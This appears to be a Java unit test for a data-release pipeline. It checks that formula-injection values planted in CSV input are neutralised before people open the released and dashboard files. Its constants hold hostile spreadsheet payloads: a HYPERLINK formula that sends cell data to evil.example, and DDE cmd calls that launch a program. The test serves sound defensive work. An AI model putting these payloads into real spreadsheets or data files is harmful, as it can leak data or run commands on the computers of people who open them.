package org.sdelink.pipelines.flow;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.Reader;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVPrinter;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sdelink.pipelines.publish.PublishStage;
import org.sdelink.pipelines.publish.TestApprovals;
import org.sdelink.pipelines.report.ReportStage;
import org.sdelink.pipelines.run.StageOptions;
import org.sdelink.policies.spreadsheet.SpreadsheetSafeCells;

/**
 * Issue 15, item 4: formulas typed into CLD fields ({@code =HYPERLINK(...)} in Event_Outcome, a DDE call in
 * Service_Component, {@code @SUM(...)} as a council's LA_Code) reached the release's journeys, persons and costs and
 * the councils' dashboard CSVs as they were. Here they go through every stage and no CSV a person opens holds a cell
 * a spreadsheet would run; the stage outputs sdelink reads back and the Parquet copies keep the true values.
 */
class FormulaCellsTest {
  static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
  static final String DDE = "+cmd|' /C calc'!A0";
  static final String LA = "@SUM(1+1)*cmd|'/C calc'!A0";

  @TempDir static Path root;
  static Path stages;
  static Path release;
  static Path dashboard;

  @BeforeAll
  static void runWithFormulasInTheInput() throws Exception {
    FlowFixture fixture = FlowFixture.generate(root, 1500, 60_606);
    inject(fixture.input("cld_events.csv"));
    stages = fixture.runStages(root.resolve("stages"), List.of());
    Path policy = ReleasePropertiesTest.approvedPolicyIn(root, "PROJECT-F");
    release = PublishStage.of("PROJECT-F", policy, stages.resolve("metrics"), fixture.key,
        TestApprovals.sde(policy))
        .run(StageOptions.fromArgs(List.of()), root.resolve("release"));
    dashboard = ReportStage.of(stages.resolve("cld"), FlowFixture.PERIOD)
        .run(StageOptions.fromArgs(List.of()), root.resolve("dashboard"));
  }

  /** Every 5th Event_Outcome and 7th Service_Component become formulas; the first council's LA_Code too. */
  private static void inject(Path cld) throws Exception {
    List<List<String>> rows = new ArrayList<>();
    List<String> header;
    try (Reader reader = Files.newBufferedReader(cld, StandardCharsets.UTF_8);
        CSVParser parser = CSVFormat.RFC4180.builder().setHeader().get().parse(reader)) {
      header = parser.getHeaderNames();
      for (CSVRecord record : parser) {
        rows.add(new ArrayList<>(record.toList()));
      }
    }
    int outcome = header.indexOf("Event_Outcome");
    int component = header.indexOf("Service_Component");
    int la = header.indexOf("LA_Code");
    String firstCouncil = rows.get(0).get(la);
    for (int i = 0; i < rows.size(); i++) {
      List<String> row = rows.get(i);
      if (i % 5 == 0 && !row.get(outcome).isEmpty()) {
        row.set(outcome, HYPERLINK);
      }
      if (i % 7 == 0 && !row.get(component).isEmpty()) {
        row.set(component, DDE);
      }
      if (row.get(la).equals(firstCouncil)) {
        row.set(la, LA);
      }
    }
    try (Writer writer = Files.newBufferedWriter(cld, StandardCharsets.UTF_8);
        CSVPrinter printer = new CSVPrinter(writer, CSVFormat.RFC4180.builder().setRecordSeparator("\n").get())) {
      printer.printRecord(header);
      for (List<String> row : rows) {
        printer.printRecord(row);
      }
    }
  }

  @Test
  void noReleasedOrDashboardCsvHoldsACellASpreadsheetWouldRun() throws Exception {
    List<Path> files = new ArrayList<>();
    for (Path folder : List.of(release, dashboard)) {
      try (Stream<Path> walk = Files.walk(folder)) {
        walk.filter(f -> f.getFileName().toString().endsWith(".csv")).forEach(files::add);
      }
    }
    assertTrue(files.size() > 10, "CSV files: " + files);
    int neutralised = 0;
    for (Path file : files) {
      for (List<String> record : records(file)) {
        for (String cell : record) {
          assertFalse(SpreadsheetSafeCells.needsPrefix(cell) && cell.charAt(0) != SpreadsheetSafeCells.PREFIX,
              "a formula cell in " + root.relativize(file));
          neutralised += cell.startsWith("'=") || cell.startsWith("'+") || cell.startsWith("'@") ? 1 : 0;
          // A negative number is data: never prefixed.
          assertFalse(cell.matches("'[+-]?\\d+(\\.\\d*)?"), "a number neutralised in " + root.relativize(file));
        }
      }
    }
    assertTrue(neutralised > 0, "the injected formulas reached no human-facing file (the probe did not probe)");
  }

  @Test
  void theFormulasReachTheReleaseAsTextWithTheirTrueValueInParquet() throws Exception {
    String journeys = Files.readString(release.resolve("journeys.csv"), StandardCharsets.UTF_8);
    assertTrue(journeys.contains("\"'" + HYPERLINK.replace("\"", "\"\"") + "\""), "Event_Outcome neutralised");
    assertTrue(journeys.contains("\"'" + DDE + "\""), "Service_Component neutralised");
    String costs = Files.readString(release.resolve("costs.csv"), StandardCharsets.UTF_8);
    assertTrue(costs.contains("\"'" + LA + "\""), "LA code neutralised in costs.csv");
    try (Stream<Path> walk = Files.walk(dashboard)) {
      assertTrue(walk.filter(f -> f.toString().endsWith(".csv")).anyMatch(f -> read(f).contains("\"'" + LA + "\"")),
          "LA code neutralised in a dashboard CSV");
    }
    // Stage outputs sdelink reads back keep the exact values.
    String metricsJourneys = Files.readString(stages.resolve("metrics").resolve("journeys.csv"));
    assertTrue(metricsJourneys.contains(HYPERLINK.replace("\"", "\"\"")) && !metricsJourneys.contains("'" + HYPERLINK),
        "metrics/journeys.csv keeps the true value");
  }

  @Test
  void personIdsBeginningWithADashAreNeutralisedAlikeInEveryFileSoTheyStillJoin() throws Exception {
    // Release person ids are base64url and may begin with '-': text, so neutralised, the same way in every CSV.
    java.util.Set<String> persons = new java.util.HashSet<>();
    FlowFixture.readCsv(release.resolve("persons.csv")).forEach(r -> persons.add(r.get("person_id")));
    for (String dataset : List.of("journeys", "discharges")) {
      for (Map<String, String> row : FlowFixture.readCsv(release.resolve(dataset + ".csv"))) {
        assertFalse(row.get("person_id").startsWith("-"), dataset);
        assertTrue(persons.contains(row.get("person_id")), dataset + " row without its person");
      }
    }
  }

  private static String read(Path file) {
    try {
      return Files.readString(file, StandardCharsets.UTF_8);
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  private static List<List<String>> records(Path file) throws Exception {
    List<List<String>> out = new ArrayList<>();
    try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
        CSVParser parser = CSVFormat.RFC4180.parse(reader)) {
      for (CSVRecord record : parser) {
        out.add(record.toList());
      }
    }
    return out;
  }
}
